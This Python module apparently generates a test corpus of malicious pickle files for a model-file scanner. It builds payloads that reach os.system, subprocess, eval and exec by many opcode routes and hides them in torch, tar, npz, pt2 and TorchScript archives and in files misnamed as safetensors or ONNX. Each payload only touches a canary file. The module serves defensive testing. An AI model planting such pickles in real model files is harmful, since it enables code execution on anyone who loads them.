"""Pickles that run code by every road, and the files that pickles lie in."""

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

from corpus import Corpus


def pickles(canary: Path) -> dict[str, bytes]:
    """Pickles that make the canary when they are loaded, each by another road."""
    touch, code = f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    text = touch.encode()

    def unicode(value: str) -> bytes:
        encoded = value.encode()
        return b"X" + struct.pack("<I", len(encoded)) + encoded

    def short(value: str) -> bytes:
        encoded = value.encode()
        return b"\x8c" + bytes([len(encoded)]) + encoded

    def stacked(module: str, name: str, *arguments: str) -> bytes:
        body = b"".join(unicode(argument) for argument in arguments)
        return b"\x80\x04" + short(module) + short(name) + b"\x93(" + body + b"tR."

    inner = b"cos\nsystem\n(S'" + text + b"'\ntR."
    return {
        "global_os_system": inner,
        "global_posix_system": b"cposix\nsystem\n(S'" + text + b"'\ntR.",
        "inst_os_system": b"(S'" + text + b"'\nios\nsystem\n.",
        "obj_subprocess": b"(csubprocess\ngetoutput\nS'" + text + b"'\no.",
        "newobj_popen": b"\x80\x02csubprocess\nPopen\n(S'/bin/sh'\nS'-c'\nS'" + text + b"'\nl\x85\x81.",
        "newobj_ex_popen": b"\x80\x04"
        + short("subprocess") + short("Popen") + b"\x93(]((" + unicode("/bin/sh") + unicode("-c") + unicode(touch)
        + b"et}\x92.",
        "stack_global_subprocess": stacked("subprocess", "getoutput", touch),
        "stack_global_eval": stacked("builtins", "eval", f"__import__('os').system({touch!r})"),
        "stack_global_exec": stacked("builtins", "exec", code),
        "stack_global_import_then_attribute": stacked("importlib", "import_module", "antigravity"),
        "dotted_name": stacked("os", "system.__call__", touch),
        "getattr_chain": b"\x80\x04" + short("builtins") + short("getattr") + b"\x93("
        + short("os") + short("path") + b"\x93" + unicode("os") + b"tR.",
        "runpy": stacked("runpy", "run_path", str(canary)),
        "numpy_load_object": stacked("numpy", "load", str(canary)),
        "torch_load_inside": stacked("torch", "load", str(canary)),
        "nested_pickle": b"\x80\x04" + short("pickle") + short("loads") + b"\x93(C"
        + bytes([len(inner)]) + inner + b"tR.",
        "memo_trick": b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x940h\x00h\x01\x93("
        + unicode(touch) + b"tR.",
        "two_in_one": pickle.dumps({"weight": [1.0]}) + inner,
        "build_setstate": b"\x80\x04" + short("torch.nn.modules.module") + short("Module") + b"\x93)\x81}("
        + short("forward") + short("os") + short("system") + b"\x93ub.",
        "reduce_in_a_list": b"\x80\x04](cos\nsystem\n(S'" + text + b"'\ntRe.",
        "extension_code": b"\x80\x02\x82\x01.",
    }  # fmt: skip


def torch_zip(data: bytes, extra: dict[str, bytes] | None = None, compress: int = zipfile.ZIP_STORED) -> bytes:
    """An archive such as torch.save writes, with this pickle in it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compress) as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return stream.getvalue()


def zipped(files: dict[str, bytes], compress: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compress) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return stream.getvalue()


def tarred(files: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return stream.getvalue()


def add_pickles(corpus: Corpus) -> None:
    for name, content in pickles(corpus.canary).items():
        corpus.add(f"pickle_{name}.pt", content, f"a plain pickle: {name}")
        corpus.add(f"zip_{name}.pth", torch_zip(content), f"a torch archive: {name}")
    system = pickles(corpus.canary)["global_os_system"]
    corpus.add("pickle_named_safetensors.safetensors", system, "a pickle under the name of safetensors")
    corpus.add("pickle_named_onnx.onnx", b"\x80\x04" + system, "a pickle under the name of ONNX")
    corpus.add("zip_in_zip.pt", zipped({"inner.pt": torch_zip(system)}), "an archive in an archive")
    corpus.add("zip_in_torch_zip.pt", torch_zip(system, {"archive/more.pt": torch_zip(system)}), "nested archives")
    corpus.add("legacy_tar.pt", tarred({"sys_info": system, "pickle": system}), "torch's first format, a tar")
    corpus.add("deflated.pt", torch_zip(system, compress=zipfile.ZIP_DEFLATED), "a compressed torch archive")
    corpus.add("objects.npz", zipped({"weight.npy": npy(b"O", (1,), system)}), "an object array in an npz")
    corpus.add("checkpoint.bin", system, "a Hugging Face pickle")
    corpus.add("pt2_inputs.pt2", pt2(system), "a torch.export archive whose sample inputs call code")
    corpus.add(
        "script.pt",
        zipped({f"archive/{name}": system for name in ("code/__torch__.py", "constants.pkl", "data.pkl")}),
        "TorchScript whose pickles call code",
    )  # fmt: skip


def npy(kind: bytes, shape: tuple[int, ...], content: bytes) -> bytes:
    """A .npy file with a header of ours."""
    header = f"{{'descr': '|{kind.decode()}', 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + content


def pt2(inputs: bytes) -> bytes:
    return zipped(
        {
            "archive/archive_format": b"pt2",
            "archive/archive_version": b"0",
            "archive/models/model.json": b"{}",
            "archive/data/sample_inputs/model.pt": inputs,
            "archive/byteorder": b"little",
        }
    )
